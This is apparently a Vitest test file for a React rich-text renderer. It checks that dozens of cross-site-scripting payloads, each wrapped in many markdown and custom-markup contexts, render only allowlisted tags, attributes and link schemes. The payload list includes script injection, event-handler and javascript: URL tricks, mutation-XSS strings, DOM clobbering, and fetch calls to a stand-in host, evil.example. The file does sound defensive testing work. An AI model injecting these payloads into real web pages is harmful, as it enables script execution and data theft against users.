import { render } from '@testing-library/react'
import { I18nextProvider } from 'react-i18next'
import { MemoryRouter } from 'react-router'
import { beforeAll, describe, expect, it } from 'vitest'
import { parseRichText } from '#src/content/parse-rich-text.ts'
import { loadTestWords, testWords } from '#src/testing/show-exercise.tsx'
import { ReferencesContext } from './reference-panel.ts'
import { RichText } from './rich-text.tsx'

// Whatever a course text holds, the page gets only elements and attributes that our components write. Looked at in the
// tree and not by waiting for a script to run: what isn't there can't run, whatever the browser and its policy.

const CALL = 'fetch("//evil.example")'
const PAYLOADS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror='${CALL}'>`,
  `<svg onload='${CALL}'>`,
  `<svg><script href="data:,${CALL}"></script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/a.css">',
  '<style>@import "//evil.example/a.css"</style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a id="body"></a><form id="documentElement"><input name="attributes"></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\u0000script:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](file:///etc/passwd)',
  '[x](https://a.example "title\\" onmouseover=alert(1)")',
  '![x](https://evil.example/a.png)',
  '![x](javascript:alert(1))',
  '![x][1]\n\n[1]: https://evil.example/a.png',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://a.example/"onmouseover="alert(1)>',
  '{{fact:constructor}}',
  '{{source:__proto__}}',
  '{{fact:toString}}',
  '{{term:__proto__|x}}',
  '{{term:hasOwnProperty|x}}',
  '{{term:javascript:alert(1)|<b onclick=alert(1)>}}',
  '{{lang:en"onclick="alert(1)|x}}',
  '{{myth:<img src=x onerror=alert(1)>}}',
  '{{allow:<script>alert(1)</script>|a long enough reason}}',
  '[[constructor|<img src=x onerror=alert(1)>]]',
  '[[x|javascript:alert(1)]]',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '# <script>alert(1)</script>',
  '\u202E<script>alert(1)</script>',
  '\uFEFF<script>alert(1)</script>',
  'ja\u200Bvascript:alert(1)',
] as const

const FRAMES: readonly (readonly [name: string, frame: (text: string) => string])[] = [
  ['alone', (text) => text],
  ['in a sentence', (text) => `Before ${text} after.`],
  ['in a list', (text) => `- one\n- ${text}`],
  ['in a numbered list', (text) => `1. ${text}\n2. two`],
  ['in a quotation', (text) => `> ${text}`],
  ['in a quotation in a list', (text) => `- > ${text}`],
  ['in the head of a table', (text) => `| ${text} | b |\n|---|---|\n| c | d |`],
  ['in a cell of a table', (text) => `| a | b |\n|---|---|\n| ${text} | d |`],
  ['emphasized', (text) => `*${text}*`],
  ['strong', (text) => `**${text}**`],
  ['as code', (text) => `\`${text}\``],
  ['in the words of a link', (text) => `[${text}](https://a.example)`],
  ['in the address of a link', (text) => `[x](https://a.example/${text})`],
  ['as the address of a link', (text) => `[x](${text})`],
  ['as the title of a link', (text) => `[x](https://a.example "${text}")`],
  ['as the description of a picture', (text) => `![${text}](a.png)`],
  ['as a definition', (text) => `[x][1]\n\n[1]: ${text}`],
  ['in angle brackets', (text) => `<${text}>`],
  ['as a fact', (text) => `{{fact:${text}}}`],
  ['as a term', (text) => `{{term:${text}|x}}`],
  ['as the words of a term', (text) => `{{term:word|${text}}}`],
  ['as a myth', (text) => `{{myth:${text}}}`],
  ['as a language', (text) => `{{lang:${text}|x}}`],
  ['in another language', (text) => `{{lang:fr|${text}}}`],
  ['as a gap', (text) => `[[${text}]]`],
  ['as the words of a gap', (text) => `[[x|${text}]]`],
  ['after an escape', (text) => `\\${text}`],
  ['after a comment', (text) => `<!-- ${text} -->`],
  ['in CDATA', (text) => `<![CDATA[${text}]]>`],
  ['after a heading sign', (text) => `## ${text}`],
  ['after a rule', (text) => `---\n${text}`],
  ['twice', (text) => `${text}${text}`],
  ['over two lines', (text) => `${text.slice(0, text.length / 2)}\n${text.slice(text.length / 2)}`],
  ['in two paragraphs', (text) => `${text}\n\n${text}`],
  ['in an open mark', (text) => `{{term:word|${text}`],
]

const TAGS = new Set(
  'DIV P UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD EM STRONG CODE Q A SPAN BR svg path circle rect line polyline'.split(' '),
)
const ATTRIBUTES = new Set(
  [
    'class lang scope tabindex role href target rel referrerpolicy hreflang aria-hidden aria-expanded data-standing data-discover',
    'xmlns width height viewBox fill stroke stroke-width stroke-linecap stroke-linejoin d x y x1 x2 y1 y2 cx cy r rx ry points focusable',
  ]
    .join(' ')
    .split(' '),
)

/** What is in the tree that no component of ours writes. */
const strangersIn = (root: Element): readonly string[] =>
  [...root.querySelectorAll('*')].flatMap((element) => [
    ...(TAGS.has(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...element
      .getAttributeNames()
      .filter((name) => !ATTRIBUTES.has(name))
      .map((name) => `${element.tagName} ${name}`),
    ...(element.tagName !== 'A' || /^(?:https?:|mailto:|tel:|\/(?![/\\]))/.test(element.getAttribute('href') ?? '')
      ? []
      : [`link to ${element.getAttribute('href')}`]),
  ])

const show = (text: string): Element => {
  const { container, unmount } = render(
    <I18nextProvider i18n={testWords.instanceOf('en')}>
      <MemoryRouter>
        <ReferencesContext value={{ language: 'en', today: '2026-11-25', facts: {}, terms: {} }}>
          <RichText text={parseRichText(text)} />
        </ReferencesContext>
      </MemoryRouter>
    </I18nextProvider>,
  )
  const shown = container.cloneNode(true)
  unmount()
  if (!(shown instanceof Element)) throw new Error('nothing was drawn')
  return shown
}

beforeAll(loadTestWords)

describe(`${PAYLOADS.length * FRAMES.length} hostile texts`, () => {
  it.each(FRAMES)('%s draw nothing but what our components write', (_, frame) => {
    for (const payload of PAYLOADS) expect(strangersIn(show(frame(payload))), frame(payload)).toEqual([])
  })

  it('would draw hundreds of other things as HTML (the control)', () => {
    // Read into documents of their own, in which nothing runs.
    const reader = new DOMParser()
    const found = FRAMES.flatMap(([, frame]) =>
      PAYLOADS.flatMap((payload) => strangersIn(reader.parseFromString(frame(payload), 'text/html').body)),
    )
    expect(found.length).toBeGreaterThan(500)
  })
})
